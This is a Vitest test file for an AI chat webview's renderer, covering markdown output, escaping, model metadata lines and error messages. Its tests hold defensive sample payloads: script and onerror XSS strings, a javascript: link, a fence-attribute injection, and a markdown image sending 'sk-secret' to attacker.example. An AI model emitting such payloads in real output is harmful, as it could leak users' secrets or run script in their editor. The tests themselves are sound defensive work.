import { describe, expect, it } from 'vitest';
import { ChatEntry } from '../src/logic/chatTypes';
import { errorTitle, escapeHtml, metaParts, renderError, renderMarkdown, safeLanguage } from '../src/webview/render';

describe('renderMarkdown', () => {
  it('renders markdown', () => {
    expect(renderMarkdown('**bold** and `code`')).toBe('<p><strong>bold</strong> and <code>code</code></p>\n');
  });

  it('escapes raw HTML instead of rendering it', () => {
    const html = renderMarkdown('<img src=x onerror="alert(1)"> <script>alert(1)</script>');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<script');
    expect(html).toContain('&lt;script&gt;');
  });

  it('renders a remote image as a link, so a reply cannot make the editor fetch it', () => {
    const html = renderMarkdown('![chart](https://attacker.example/?d=sk-secret) and ![](http://127.0.0.1:9/x.png) ![r](rel.png)');
    expect(html).not.toContain('<img');
    expect(html).toContain('<a href="https://attacker.example/?d=sk-secret" class="image-link"');
    expect(html).toContain('>image: chart</a>');
    expect(html).toContain('<a href="http://127.0.0.1:9/x.png" class="image-link"');
    expect(html).toContain('<a href="rel.png" class="image-link"');
  });

  it('still renders a data: image inline', () => {
    const html = renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)');
    expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">');
  });

  it('escapes a remote image link\'s alt text and URL', () => {
    const html = renderMarkdown('![<b>x</b>](https://a.example/"onerror=alert(1))');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<b>');
    expect(html).not.toMatch(/"onerror/);
  });

  it('drops javascript: links', () => {
    const html = renderMarkdown('[click](javascript:alert(1)) [ok](https://example.com)');
    expect(html).not.toContain('href="javascript:');
    expect(html).toContain('<a href="https://example.com">ok</a>');
  });

  it('wraps fenced code in a block with its language and a copy button', () => {
    const html = renderMarkdown('```python\nprint("<hi>")\n```');
    expect(html).toContain('<span class="code-lang">python</span>');
    expect(html).toContain('<button type="button" class="copy-code"');
    expect(html).toContain('<code class="language-python">print(&quot;&lt;hi&gt;&quot;)\n</code>');
  });

  it('gives the user\'s own code only Copy: Insert and Apply… are for a reply\'s code', () => {
    const mine = renderMarkdown('```python\nx = 1\n```', { codeActions: false });
    expect(mine).toContain('class="copy-code"');
    expect(mine).not.toContain('insert-code');
    expect(mine).not.toContain('apply-code');
    const reply = renderMarkdown('```python\nx = 1\n```', { codeActions: true });
    expect(reply).toContain('class="insert-code"');
    expect(reply).toContain('class="apply-code"');
  });

  it('does not let a fence info string inject attributes', () => {
    const html = renderMarkdown('```"><script>x\ncode\n```');
    expect(html).not.toContain('<script');
    expect(html).toContain('<code>code\n</code>');
  });

  it('renders an unclosed fence while a reply is still streaming', () => {
    expect(renderMarkdown('Here:\n```ts\nconst a = 1;')).toContain('<code class="language-ts">const a = 1;</code>');
  });

  it('frames indented code too', () => {
    expect(renderMarkdown('    indented')).toContain('<div class="code-block">');
  });
});

describe('helpers', () => {
  it('escapeHtml escapes the five characters', () => {
    expect(escapeHtml(`<a href="x">'&'</a>`)).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
  });
  it('safeLanguage keeps plain names only', () => {
    expect(safeLanguage('c++ title="x"')).toBe('c++');
    expect(safeLanguage('"><b>')).toBe('');
    expect(safeLanguage('')).toBe('');
  });
});

describe('metaParts', () => {
  const base: ChatEntry = { id: 1, role: 'assistant', text: 'hi' };
  it('shows the routed model of a Pareto reply', () => {
    expect(
      metaParts({ ...base, model: 'openrouter/pareto-code', routedModel: 'qwen/qwen3-coder', stopReason: 'end_turn' }),
    ).toEqual(['openrouter/pareto-code → qwen/qwen3-coder']);
  });
  it("shows the daemon's footer in place of the model and token counts, once the reply ended", () => {
    const footer = 'pareto-code → anthropic/claude-sonnet-4.6 · 1,234 in / 210 out · $0.0042 · context 1,444';
    const usage = { inputTokens: 1234, outputTokens: 210, footer };
    const entry: ChatEntry = { ...base, model: 'openrouter/pareto-code', routedModel: 'anthropic/claude-sonnet-4.6', usage };
    expect(metaParts({ ...entry, stopReason: 'end_turn' })).toEqual([footer]);
    expect(metaParts({ ...entry, stopReason: 'cancelled' })).toEqual([footer, 'stopped']);
    expect(metaParts({ ...entry, streaming: true })).toEqual([
      'streaming…',
      'openrouter/pareto-code → anthropic/claude-sonnet-4.6',
      '1234 in / 210 out tokens',
    ]);
  });
  it('shows streaming, stopped and usage', () => {
    expect(metaParts({ ...base, streaming: true })).toEqual(['streaming…']);
    expect(
      metaParts({ ...base, model: 'm', stopReason: 'cancelled', usage: { inputTokens: 12, outputTokens: 34 } }),
    ).toEqual(['m', 'stopped', '12 in / 34 out tokens']);
    expect(metaParts({ ...base, stopReason: 'max_tokens' })).toEqual(['cut at max tokens']);
  });
  it("shows the daemon's notice of a reply it ended early", () => {
    const interrupted = 'interrupted: hermesd stopped before this reply ended; the text shown is what was saved';
    expect(metaParts({ ...base, model: 'm', stopReason: 'interrupted', notice: interrupted })).toEqual(['m', interrupted]);
    expect(metaParts({ ...base, stopReason: 'cancelled', notice: 'hermesd is stopping (SIGTERM)' })).toEqual([
      'hermesd is stopping (SIGTERM)',
    ]);
  });

  it('shows the daemon\'s short label, not a model served as a path', () => {
    expect(
      metaParts({ ...base, model: '/srv/models/SmolLM2-360M-Instruct-Q8_0.gguf', modelLabel: 'SmolLM2-360M-Instruct-Q8_0', stopReason: 'end_turn' }),
    ).toEqual(['SmolLM2-360M-Instruct-Q8_0']);
  });
  it('has nothing for user messages', () => {
    expect(metaParts({ id: 2, role: 'user', text: 'q' })).toEqual([]);
  });
});

describe('renderError', () => {
  it('shows the daemon hint, escaped', () => {
    const html = renderError({
      id: 1,
      role: 'assistant',
      text: '',
      error: { kind: 'auth', message: 'OpenRouter rejected the key (401) <b>', hint: 'set OPENROUTER_API_KEY' },
    });
    expect(html).toContain('<div class="error-title">Authentication failed</div>');
    expect(html).toContain('OpenRouter rejected the key (401) &lt;b&gt;');
    expect(html).toContain('<strong>What to do:</strong> set OPENROUTER_API_KEY');
    expect(html).toContain('data-command="hermes.runDoctor"');
    expect(html).not.toContain('hermes.restartServer');
  });
  it('offers a restart when the server is gone', () => {
    expect(renderError({ id: 1, role: 'assistant', text: '', error: { kind: 'server', message: 'gone' } })).toContain(
      'data-command="hermes.restartServer"',
    );
  });
  it('offers Retry only when the error says the message may be sent again', () => {
    const error = { kind: 'rpc -32005', message: 'the daemon restarted; your message was saved in the session; Retry to send it again' };
    const retryable = renderError({ id: 1, role: 'assistant', text: '', error: { ...error, retryable: true } });
    expect(retryable).toContain('<button type="button" class="retry" title="Send this message again">Retry</button>');
    expect(retryable).toContain(error.message);
    expect(renderError({ id: 1, role: 'assistant', text: '', error })).not.toContain('class="retry"');
  });
  it('is empty without an error', () => {
    expect(renderError({ id: 1, role: 'assistant', text: 'ok' })).toBe('');
  });
  it('offers Retry alone under a saved reply the daemon marked retryable (interrupted)', () => {
    const marked = renderError({ id: 1, role: 'assistant', text: 'half', stopReason: 'interrupted', retryable: true });
    expect(marked).toContain('<button type="button" class="retry" title="Send this message again">Retry</button>');
    expect(marked).not.toContain('role="alert"');
  });
  it('has a title for every documented error kind', () => {
    for (const kind of ['auth', 'rate_limited', 'quota', 'context_length', 'model_not_found', 'network', 'timeout', 'bad_response', 'plugin_error', 'config_error']) {
      expect(errorTitle(kind)).not.toBe('Request failed');
    }
    expect(errorTitle('something new')).toBe('Request failed');
  });
});
